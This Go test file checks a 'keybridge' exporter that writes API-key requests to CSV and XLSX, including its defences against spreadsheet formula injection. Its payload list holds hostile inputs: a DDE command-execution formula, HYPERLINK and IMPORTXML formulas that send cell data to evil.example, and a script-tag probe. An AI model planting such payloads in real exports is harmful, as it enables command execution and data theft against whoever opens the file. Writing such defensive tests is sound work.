package export_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"iter"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"keybridge/bridge"
	"keybridge/bridge/export"
)

var noon = time.Date(2026, time.March, 14, 12, 0, 0, 0, time.UTC)

// all is a sequence of requests that breaks off with an error, or does not.
func all(err error, requests ...bridge.Request) iter.Seq2[bridge.Request, error] {
	return func(yield func(bridge.Request, error) bool) {
		for _, r := range requests {
			if !yield(r, nil) {
				return
			}
		}
		if err != nil {
			yield(bridge.Request{}, err)
		}
	}
}

// full is a request with something in every column.
func full() bridge.Request {
	by := bridge.Actor{Kind: bridge.ByPerson, Name: "anna"}
	return bridge.Request{
		ID: "01KKSAMPLE0000000000000000", Portal: "main", Key: "5f7c1e0a", Created: noon, Assigned: "otto",
		Applicant: bridge.Applicant{ID: "dev-7", Email: "dana@applicant.example", Name: "Dana Döe", Organisation: "Doe, \"Weather\" Ltd", App: "Rain\nradar"},
		Terms: bridge.Terms{
			Plan: "Weather Pro", Provider: "stripe", Steps: []bridge.StepKind{bridge.Paying},
			Lines: []bridge.Price{
				{Amount: bridge.NewAmount(4900, "EUR"), Interval: bridge.Interval{Unit: "month"}}, {Amount: bridge.NewAmount(100, "EUR")},
				{Amount: bridge.NewAmount(1, "EUR")},
			},
		},
		Verdict: bridge.Verdict{Outcome: bridge.Approve, Mark: bridge.Mark{At: noon.Add(time.Hour), By: by, Why: "a good customer"}},
		Access:  bridge.Access{Have: bridge.Granted, Granted: noon.Add(2 * time.Hour)},
		Payment: bridge.Payment{Have: bridge.Paid, Collected: bridge.NewAmount(5001, "EUR"), Returned: bridge.NewAmount(1, "EUR")},
		Ended:   bridge.Mark{At: noon.Add(3 * time.Hour), By: bridge.Actor{Kind: bridge.ByClock}},
		Refs: []bridge.Ref{
			{System: "stripe", Kind: bridge.RefSession, ID: "cs_1"}, {System: "stripe", Kind: bridge.RefIntent, ID: "pi_1"},
			{System: "stripe", Kind: bridge.RefCharge, ID: "ch_1"}, {System: "stripe", Kind: bridge.RefCharge, ID: "ch_2"},
			{System: "stripe", Kind: bridge.RefInvoice, ID: "in_1"}, {System: "stripe", Kind: bridge.RefSubscription, ID: "sub_1"},
			{System: "main", Kind: bridge.RefKey, ID: "hash-of-a-key"},
		},
	}
}

// written is a table as a file.
func written(t *testing.T, as bridge.Format, requests ...bridge.Request) []byte {
	t.Helper()
	var b bytes.Buffer
	n, err := export.Write(&b, export.Requests(all(nil, requests...)), as, t.TempDir())
	if err != nil || n != len(requests) {
		t.Fatalf("%d rows, %v", n, err)
	}
	return b.Bytes()
}

// linesOf reads a CSV as RFC 4180 has it.
func linesOf(t *testing.T, file []byte) [][]string {
	t.Helper()
	text, marked := strings.CutPrefix(string(file), "\uFEFF")
	if !marked {
		t.Error("the file does not begin with a byte order mark")
	}
	if strings.Count(text, "\n") != strings.Count(text, "\r\n") || !strings.HasSuffix(text, "\r\n") {
		t.Errorf("lines do not all end with CRLF: %q", text)
	}
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return lines
}

// record is a line by its columns' titles.
func record(head, line []string) map[string]string {
	out := map[string]string{}
	for i, title := range head {
		if i < len(line) && line[i] != "" {
			out[title] = line[i]
		}
	}
	return out
}

var fullRecord = map[string]string{
	"Request": "01KKSAMPLE0000000000000000", "Portal": "main", "Key request": "5f7c1e0a", "State": "ending", "Plan": "Weather Pro",
	"Amount": "50.01", "Currency": "EUR", "Interval": "every month + once", "Collected": "50.01", "Returned": "0.01", "Paid in": "EUR",
	"Applicant": "Dana Döe", "E-mail": "dana@applicant.example", "Organisation": "Doe, \"Weather\" Ltd", "App": "Rain\nradar",
	"Created (UTC)": "2026-03-14 12:00:00", "Verdict": "approve", "Decided (UTC)": "2026-03-14 13:00:00", "Decided by": "person anna",
	"Why": "a good customer", "Granted (UTC)": "2026-03-14 14:00:00", "Ended (UTC)": "2026-03-14 15:00:00", "Ended by": "clock",
	"Assigned to": "otto", "Provider": "stripe", "Session": "cs_1", "Intent": "pi_1", "Charge": "ch_1 ch_2", "Invoice": "in_1", "Subscription": "sub_1",
}

func TestARequestHasWhatFinanceNeedsInACSV(t *testing.T) {
	t.Parallel()
	lines := linesOf(t, written(t, bridge.CSV, full()))
	if diff := cmp.Diff(fullRecord, record(lines[0], lines[1])); diff != "" || len(lines) != 2 {
		t.Errorf("%d lines (-want +got):\n%s", len(lines), diff)
	}
}

// book opens an XLSX and returns it with its rows as they are shown.
func book(t *testing.T, file []byte) (*excelize.File, [][]string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	rows, err := f.GetRows("Requests")
	if err != nil {
		t.Fatal(err)
	}
	return f, rows
}

// place is where a column's cell of a row is.
func place(t *testing.T, head []string, title string, row int) string {
	t.Helper()
	cell, err := excelize.CoordinatesToCellName(slices.Index(head, title)+1, row)
	if err != nil {
		t.Fatal(title, err)
	}
	return cell
}

func TestARequestHasRealDatesAndNumbersInAnXLSX(t *testing.T) {
	t.Parallel()
	yen := full()
	yen.Terms.Lines = []bridge.Price{{Amount: bridge.NewAmount(1234567, "JPY")}}
	yen.Payment.Collected = bridge.NewAmount(1234, "KWD")
	f, rows := book(t, written(t, bridge.XLSX, full(), yen))
	if diff := cmp.Diff(fullRecord, record(rows[0], rows[1])); diff != "" || len(rows) != 3 {
		t.Errorf("%d rows (-want +got):\n%s", len(rows), diff)
	}
	for title, want := range map[string]struct {
		kind       excelize.CellType
		raw, shown string
	}{
		"Amount":        {excelize.CellTypeUnset, "1234567", "1,234,567"},
		"Collected":     {excelize.CellTypeUnset, "1.234", "1.234"},
		"Created (UTC)": {excelize.CellTypeUnset, "46095.5", "2026-03-14 12:00:00"},
		"Applicant":     {excelize.CellTypeInlineString, "Dana Döe", "Dana Döe"},
	} {
		cell := place(t, rows[0], title, 3)
		kind, err := f.GetCellType("Requests", cell)
		raw, rawErr := f.GetCellValue("Requests", cell, excelize.Options{RawCellValue: true})
		shown, shownErr := f.GetCellValue("Requests", cell)
		if err = errors.Join(err, rawErr, shownErr); err != nil || kind != want.kind || raw != want.raw || shown != want.shown {
			t.Errorf("%s is of type %d, %q, shown %q: %v", title, kind, raw, shown, err)
		}
	}
	if panes, err := f.GetPanes("Requests"); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the head is not frozen: %+v, %v", panes, err)
	}
	if props, err := f.GetDocProps(); err != nil || props.Creator != "keybridge" {
		t.Errorf("the file says it was made by %+v, %v", props, err)
	}
}

// A request of which little is known has empty cells, and nothing that was made up.
func TestWhatIsNotKnownIsEmpty(t *testing.T) {
	t.Parallel()
	bare := bridge.Request{ID: "01KKSAMPLE0000000000000001", Portal: "main", Key: "k", Verdict: bridge.Verdict{Outcome: bridge.Open}}
	mixed := full()
	mixed.Terms.Lines[1].Amount.Currency = "USD"
	mixed.Verdict = bridge.Verdict{Outcome: bridge.Open}
	for _, as := range bridge.Formats {
		file := written(t, as, bare, mixed)
		var rows [][]string
		if as == bridge.CSV {
			rows = linesOf(t, file)
		} else {
			_, rows = book(t, file)
		}
		want := map[string]string{"Request": string(bare.ID), "Portal": "main", "Key request": "k", "State": "received", "Verdict": "open"}
		if diff := cmp.Diff(want, record(rows[0], rows[1])); diff != "" {
			t.Errorf("%s (-want +got):\n%s", as, diff)
		}
		got := record(rows[0], rows[2])
		if got["Amount"]+got["Currency"]+got["Decided by"]+got["Decided (UTC)"]+got["Why"] != "" {
			t.Errorf("%s: two currencies, and no verdict, give %v", as, got)
		}
	}
}

// payloads are what a stranger writes where a spreadsheet would run it.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "＝1+1", "\uFEFF=1+1", "\u200B=1+1",
	"=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
	"x;=1+1", "x;\"=1+1", "x\t=1+1", "x\n=1+1", "x\r\n@SUM(1)", "x; \t -1", "x; \t0", " \t0", " \n0", "\x00=1+1", "\xff=1+1", "<script>alert(1)</script>",
	"_x003D_1+1", "'=1+1", strings.Repeat("=", 40000), "\t", "\n", "=", "",
}

// hostile is a request with a payload wherever somebody outside has a say.
func hostile(text string) bridge.Request {
	r := full()
	r.Key, r.Portal, r.Assigned = text, text, text
	r.Applicant = bridge.Applicant{ID: text, Email: text, Name: text, Organisation: text, App: text}
	r.Terms.Plan, r.Terms.Provider = text, text
	r.Verdict.Mark.Why, r.Verdict.Mark.By.Name = text, text
	for i := range r.Refs {
		r.Refs[i].ID = text
	}
	return r
}

// formulas are what a cell may not begin with, wherever it begins; a cell of the file may
// begin with a tab or a new line no more than with those.
const formulas = "=+-@＝＋－＠"

// begins reports whether a spreadsheet that drops some characters at the beginning of a
// cell would find one of others there.
func begins(cell, others, dropped string) bool {
	bare := strings.TrimLeft(cell, dropped)
	return bare != "" && strings.ContainsAny(string([]rune(bare)[0]), others)
}

func TestNoFormulaIsInACSV(t *testing.T) {
	t.Parallel()
	for _, text := range payloads {
		file := written(t, bridge.CSV, hostile(text))
		notRun(t, text, file)
	}
}

// notRun checks that no cell of a CSV would be run, whichever border between cells a
// spreadsheet goes by.
func notRun(t *testing.T, text string, file []byte) {
	t.Helper()
	for _, line := range linesOf(t, file) {
		for _, cell := range line {
			if begins(cell, formulas+"\t\r\n", " \"\uFEFF\u200B") {
				t.Fatalf("%.50q became the cell %.50q", text, cell)
			}
		}
	}
	for _, border := range []string{";", "\t", "\r\n", "\n"} {
		for _, cell := range strings.Split(string(file), border) {
			if begins(cell, formulas, " \"\uFEFF\u200B\t\r\n") {
				t.Fatalf("%.50q, split at %q, became the cell %.50q", text, border, cell)
			}
		}
	}
}

func FuzzNoTextBecomesAFormula(f *testing.F) {
	for _, text := range payloads {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 1000 {
			return
		}
		notRun(t, text, written(t, bridge.CSV, hostile(text)))
	})
}

func TestTextIsTextInAnXLSXAndStaysSo(t *testing.T) {
	t.Parallel()
	for _, text := range payloads {
		f, rows := book(t, written(t, bridge.XLSX, hostile(text)))
		for _, title := range []string{"Applicant", "E-mail", "Organisation", "App", "Plan", "Why", "Charge"} {
			cell := place(t, rows[0], title, 2)
			kind, err := f.GetCellType("Requests", cell)
			formula, formulaErr := f.GetCellFormula("Requests", cell)
			style, styleErr := f.GetCellStyle("Requests", cell)
			if err = errors.Join(err, formulaErr, styleErr); err != nil || formula != "" {
				t.Fatalf("%s is the formula %q, %v", title, formula, err)
			}
			if text == "" {
				continue
			}
			is, err := f.GetStyle(style)
			if err != nil || kind != excelize.CellTypeInlineString || is.NumFmt != 49 {
				t.Errorf("%.30q: %s is of type %d and format %+v, %v", text, title, kind, is, err)
			}
		}
	}
}

// What is not changed by being made safe is what was written.
func TestOrdinaryTextIsLeftAlone(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"Dana Doe", "a-b", "a = b", "1;2", "Müller & Söhne", "日本", "a, -b", "a@b.example", "100%", "שלום"} {
		r := full()
		r.Applicant.Name = text
		lines := linesOf(t, written(t, bridge.CSV, r))
		_, rows := book(t, written(t, bridge.XLSX, r))
		if got := record(lines[0], lines[1])["Applicant"]; got != text {
			t.Errorf("%q became %q in CSV", text, got)
		}
		if got := record(rows[0], rows[1])["Applicant"]; got != text {
			t.Errorf("%q became %q in XLSX", text, got)
		}
	}
}

// A list that breaks off, and a disk that is full, are told of; nothing is left over.
func TestAListThatBreaksOffIsAnError(t *testing.T) {
	t.Parallel()
	broken := errors.New("the store is gone")
	for _, as := range bridge.Formats {
		folder := t.TempDir()
		n, err := export.Write(io.Discard, export.Requests(all(broken, full())), as, folder)
		if !errors.Is(err, broken) || n != 1 {
			t.Errorf("%s: %d rows, %v", as, n, err)
		}
		if _, err = export.Write(fullDisk{}, export.Requests(all(nil, full())), as, folder); !errors.Is(err, errFull) {
			t.Errorf("%s on a full disk: %v", as, err)
		}
		if left, err := os.ReadDir(folder); err != nil || len(left) > 0 {
			t.Errorf("%s leaves %v, %v", as, left, err)
		}
	}
	if _, err := export.Write(io.Discard, export.Requests(all(nil)), "pdf", ""); bridge.KindOf(err) != bridge.Invalid {
		t.Errorf("a format that is none: %v", err)
	}
}

var errFull = errors.New("no space left")

// fullDisk is a disk with no room.
type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errFull }
